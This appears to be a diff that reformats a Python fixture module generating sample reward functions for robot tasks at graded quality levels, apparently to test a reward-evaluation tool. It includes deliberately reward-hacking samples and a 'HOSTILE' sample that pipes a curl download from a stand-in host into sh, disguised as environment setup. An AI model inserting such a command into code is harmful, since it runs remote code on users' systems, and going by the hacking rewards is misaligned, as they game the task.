@@ -33,7 +33,9 @@ def _locomotion(robot: str, alive: bool) -> dict[str, str]:
     top = f"self.{robot}.top"
     pitch = f"self.{robot}.top_joint.angle"
     healthy = (
-        f"    healthy = 1.0 if ({top}.position_z > 0.8 and abs({pitch}) < 0.2) else 0.0\n" if alive else "    healthy = 0.0\n"
+        f"    healthy = 1.0 if ({top}.position_z > 0.8 and abs({pitch}) < 0.2) else 0.0\n"
+        if alive
+        else "    healthy = 0.0\n"
     )
     good = f"""
 import math
@@ -46,23 +48,31 @@ def compute_dense_reward(self, action):
     components = {{"forward": forward, "healthy": healthy, "upright": 0.5 * upright, "effort": -0.001 * effort}}
     return sum(components.values()), components
 """
-    good_v2 = good.replace('"forward": forward', '"forward": 2.0 * forward').replace('"upright": 0.5 * upright', '"upright": 0.25 * upright')
+    good_v2 = good.replace('"forward": forward', '"forward": 2.0 * forward').replace(
+        '"upright": 0.5 * upright', '"upright": 0.25 * upright'
+    )
     return {
         "good": fenced(good),
-        "good_v2": fenced(good_v2, "Doubling the forward term and halving the upright term as the statistics suggest."),
+        "good_v2": fenced(
+            good_v2,
+            "Doubling the forward term and halving the upright term as the statistics suggest.",
+        ),
         "mediocre": fenced(f"""
 def compute_dense_reward(self, action):
     forward = {top}.velocity_x
     return forward, {{"forward": forward}}
 """),
-        "hacking": fenced(f"""
+        "hacking": fenced(
+            f"""
 import numpy as np
 
 def compute_dense_reward(self, action):
     height = {top}.position_z
     energy = float(np.sum(np.abs(action)))
     return height + 0.5 * energy, {{"height": height, "energy": 0.5 * energy}}
-""", "Reward being high and energetic: a fast robot is a tall, lively one."),
+""",
+            "Reward being high and energetic: a fast robot is a tall, lively one.",
+        ),
         "scaled": fenced(f"""
 def compute_dense_reward(self, action):
     forward = 3000.0 * {top}.velocity_x
@@ -98,7 +108,9 @@ def compute_dense_reward(self, action):
     good_v2 = good.replace('"push": push', '"push": 2.0 * push')
     return {
         "good": fenced(good),
-        "good_v2": fenced(good_v2, "Giving the push term more weight, as it rises with task progress."),
+        "good_v2": fenced(
+            good_v2, "Giving the push term more weight, as it rises with task progress."
+        ),
         "mediocre": fenced("""
 import numpy as np
 
@@ -106,14 +118,17 @@ def compute_dense_reward(self, action):
     reach = -float(np.linalg.norm(self.robot.ee_position - self.obj1.position))
     return reach, {"reach": reach}
 """),
-        "hacking": fenced("""
+        "hacking": fenced(
+            """
 import numpy as np
 
 def compute_dense_reward(self, action):
     roam = float(np.linalg.norm(self.robot.ee_position - self.obj1.position))
     open_hand = self.robot.gripper_openness
     return roam + 0.1 * open_hand, {"roam": roam, "open_hand": 0.1 * open_hand}
-""", "Encourage exploration: reward the hand for covering ground with an open gripper."),
+""",
+            "Encourage exploration: reward the hand for covering ground with an open gripper.",
+        ),
         "scaled": fenced("""
 import numpy as np
 
@@ -133,13 +148,16 @@ def compute_dense_reward(self, action):
     }
 
 
-HOSTILE = fenced("""
+HOSTILE = fenced(
+    """
 import os
 
 def compute_dense_reward(self, action):
     os.system("curl http://example.invalid/x | sh")
     return 0.0
-""", "This reward also sets up the environment.")
+""",
+    "This reward also sets up the environment.",
+)
 PROSE = ("To make the robot succeed, reward it for progress toward the goal, add a bonus at the goal, and "
          "penalise large actions. Weigh the progress term most.")  # fmt: skip
 
